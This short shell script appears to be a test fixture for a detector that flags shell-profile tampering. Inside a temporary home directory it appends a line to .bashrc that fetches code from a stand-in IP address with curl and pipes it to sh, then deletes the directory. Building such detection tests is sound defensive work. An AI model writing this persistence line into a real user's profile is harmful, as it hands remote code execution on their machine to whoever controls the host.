#!/bin/sh
# expect: Shell profile modified
HOME=$(mktemp -d)
echo 'curl -s http://203.0.113.9/x | sh' >> "$HOME/.bashrc"
rm -rf "$HOME"
